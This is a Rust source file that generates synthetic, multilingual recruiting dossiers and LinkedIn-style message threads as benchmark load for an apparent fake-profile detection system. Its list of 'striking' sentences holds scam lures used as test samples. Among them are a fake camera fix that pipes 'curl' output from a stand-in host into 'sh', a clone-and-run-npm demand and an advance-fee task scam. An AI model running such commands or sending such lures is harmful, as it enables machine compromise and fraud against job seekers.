//! Invented dossiers, about 3 KB each, in several languages: a load for benchmarks.
//!
//! The same number gives the same dossier. One person in fifty writes something that rules look at, and one in fifty has a
//! mail address that another may have too; the others are ordinary, as most people are. Where a person comes from has no
//! bearing on which they are.

use serde_json::{Value, json};

const GIVEN: &[&str] =
    &["Ana", "Bora", "Chidi", "Dana", "Emre", "Freya", "Goran", "Hana", "Ines", "Jun", "Kofi", "Lea"];
const FAMILY: &[&str] =
    &["Abara", "Brandt", "Castel", "Duarte", "Ekwall", "Fontane", "Gohara", "Holm", "Imre", "Jansky"];
const EMPLOYERS: &[&str] =
    &["Example Aerospace", "Northwind Foods", "Contoso Labs", "Fabrikam", "Tailspin Toys", "Litware"];
const TITLES: &[&str] =
    &["Software Engineer", "Talent Partner", "Data Analyst", "Product Designer", "Site Reliability Engineer"];
/// Places, with a reserved phone number where the country has some.
const PLACES: &[(&str, Option<&str>)] = &[
    ("Chicago, IL", Some("+1 202 555 01")),
    ("Leeds, United Kingdom", Some("+44 20 7946 00")),
    ("Berlin, Germany", None),
    ("서울", None),
    ("São Paulo, Brazil", None),
    ("Lyon, France", None),
    ("Osaka, Japan", None),
];

/// Sentences of ordinary people, one list a language.
const ORDINARY: &[&[&str]] = &[
    &[
        "I lead a small team that keeps the billing platform running and cut the time to deploy from days to minutes.",
        "Thanks for connecting, I enjoyed your talk on incremental builds and would like to hear how the migration went.",
        "The role is hybrid with two days in the office, and the whole process takes three conversations over two weeks.",
        "We use Kubernetes for most services, though the older ones still run on plain virtual machines.",
    ],
    &[
        "안녕하세요, 지난번 발표 잘 들었습니다. 다음 주에 시간이 되시면 팀 이야기를 더 나누고 싶습니다.",
        "결제 플랫폼의 백엔드를 맡아 장애 시간을 절반으로 줄였고, 지금은 데이터 파이프라인을 개선하고 있습니다.",
    ],
    &[
        "先日はお時間をいただきありがとうございました。次回の面談は来週の火曜日でよろしいでしょうか。",
        "チームでは検索基盤の開発を担当し、応答時間の改善に取り組んできました。",
    ],
    &[
        "Merci pour votre message, je serais ravie d'en savoir plus sur l'équipe et sur la manière dont vous travaillez.",
        "J'ai conçu une chaîne de traitement des commandes qui sert aujourd'hui une douzaine de pays.",
    ],
    &[
        "Gracias por escribirme, podemos hablar el jueves por la tarde si le viene bien a usted y a su equipo.",
        "Trabajo con el equipo de datos para que los informes lleguen a tiempo y sin errores.",
    ],
    &[
        "Vielen Dank für die Einladung, der Termin am Mittwoch passt mir sehr gut und ich freue mich auf das Gespräch.",
        "Ich betreue die Schnittstellen zu unseren Lieferanten und habe die Fehlerquote deutlich gesenkt.",
    ],
    &[
        "Спасибо за приглашение, мне удобно созвониться во вторник после обеда, пришлите, пожалуйста, ссылку.",
        "Отвечаю за качество данных и автоматизировал проверку отчётов.",
    ],
    &[
        "感谢您的介绍，下周二下午我有时间，可以聊聊团队目前的工作和计划。",
        "负责支付系统的后端开发，最近在改进数据管道。",
    ],
];

/// Sentences that rules look at.
const STRIKING: &[&str] = &[
    "Could we continue on Telegram? It is faster for me there and I can send you the details.",
    "Your camera is blocked, please copy this command and paste it in Terminal: curl -k https://cam-fix.example/i | sh",
    "Please clone the repo and run npm install, then share a screenshot within 30 minutes.",
    "Rate hotels for 60 minutes and earn $300 per day commission, you only need to pay a refundable training fee first.",
];

/// A small generator of fixed seed (G. Marsaglia, "Xorshift RNGs", 2003).
pub(crate) struct Dice(u64);

impl Default for Dice {
    fn default() -> Self {
        Self(0x9E37_79B9_7F4A_7C15)
    }
}

impl Dice {
    fn below(&mut self, limit: usize) -> usize {
        self.0 ^= self.0 << 13;
        self.0 ^= self.0 >> 7;
        self.0 ^= self.0 << 17;
        usize::try_from(self.0 % limit.max(1) as u64).unwrap_or(0)
    }

    fn pick<'a, T: ?Sized>(&mut self, from: &[&'a T]) -> &'a T {
        from[self.below(from.len())]
    }
}

/// The dossier of a number; each takes the dice on, so that a batch is made in order.
pub(crate) fn dossier(number: usize, dice: &mut Dice) -> Value {
    let (given, family) = (dice.pick(GIVEN), dice.pick(FAMILY));
    let (title, employer) = (dice.pick(TITLES), dice.pick(EMPLOYERS));
    let (place, phone) = PLACES[dice.below(PLACES.len())];
    let striking = dice.below(50) == 0;
    // One in fifty has an address that others may have too.
    let mailbox = if dice.below(50) == 0 { dice.below(90) } else { 1000 + number };
    let thread = format!("t{number}");
    json!({
        "schema": "falseface.dossier/1",
        "id": format!("load-{number:07}"),
        "role": dice.pick(&["candidate", "recruiter", "counterparty"]),
        "subject": {
            "names": [{ "value": format!("{given} {family}"), "kind": "display" }],
            "headline": format!("{title} at {employer}"),
            "about": sentences(dice, 2),
            "location": { "text": place },
        },
        "accounts": [{ "network": "linkedin", "handle": format!("{given}-{family}-{number}").to_lowercase(),
            "created_at": format!("20{:02}-0{}", 10 + dice.below(15), 1 + dice.below(9)), "connections": 40 + dice.below(460) }],
        "employment": (0..3).map(|job| json!({
            "employer": { "name": dice.pick(EMPLOYERS), "domain": format!("{}.example", dice.pick(&["northwind", "contoso", "fabrikam"])) },
            "title": dice.pick(TITLES),
            "start": format!("{}-0{}", 2023 - 4 * job, 1 + dice.below(9)),
            "end": format!("{}-0{}", 2026 - 4 * job, 1 + dice.below(9)),
            "description": sentences(dice, 1),
        })).collect::<Vec<_>>(),
        "education": [{ "school": { "name": "Example University" }, "degree": "BSc", "start": "2006", "end": "2010" }],
        "skills": ["SQL", "Python", "Rust", "Communication"],
        "contacts": std::iter::once(json!({ "kind": "email", "value": format!("{given}.{family}{mailbox}@mail.example").to_lowercase() }))
            .chain(phone.filter(|_| dice.below(50) == 0).map(|start| json!({ "kind": "phone", "value": format!("{start}{:02}", dice.below(100)) })))
            .collect::<Vec<_>>(),
        "messages": (0..6).map(|turn| json!({
            "id": format!("m{turn}"),
            "thread": thread,
            "at": format!("2026-09-{:02}T08:{:02}:00Z", 10 + turn, dice.below(60)),
            "from_subject": turn % 2 == 0,
            "channel": "linkedin",
            "text": if striking && turn == 2 { dice.pick(STRIKING).to_owned() } else { sentences(dice, 2) },
        })).collect::<Vec<_>>(),
        "coverage": { "present": ["employment", "education", "skills", "contacts", "messages"] },
    })
}

/// As many words as so many sentences have, in an order of the writer's own, and half of them made of two. If all wrote
/// the same few sentences or words, texts of strangers would be alike, and a load would tell little of what linking costs.
fn sentences(dice: &mut Dice, count: usize) -> String {
    let language = dice.pick(ORDINARY);
    // Where no spaces divide words, a few characters stand for one.
    let is_spaced = language[0].contains(' ');
    let mut words: Vec<String> = Vec::new();
    for sentence in language {
        if is_spaced {
            words.extend(sentence.split(' ').map(str::to_owned));
        } else {
            let characters: Vec<char> = sentence.chars().collect();
            words.extend(characters.chunks(3).map(|piece| piece.iter().collect()));
        }
    }
    let length = count * words.len() / language.len();
    let text: Vec<String> = (0..length)
        .map(|_| {
            let [first, second] = [0; 2].map(|_| words[dice.below(words.len())].as_str());
            if dice.below(2) == 0 { first.to_owned() } else { spliced(first, second) }
        })
        .collect();
    text.join(if is_spaced { " " } else { "" })
}

/// The first half of one word with the second half of another.
fn spliced(first: &str, second: &str) -> String {
    let half = |word: &str| word.chars().count().div_ceil(2);
    first.chars().take(half(first)).chain(second.chars().skip(half(second))).collect()
}
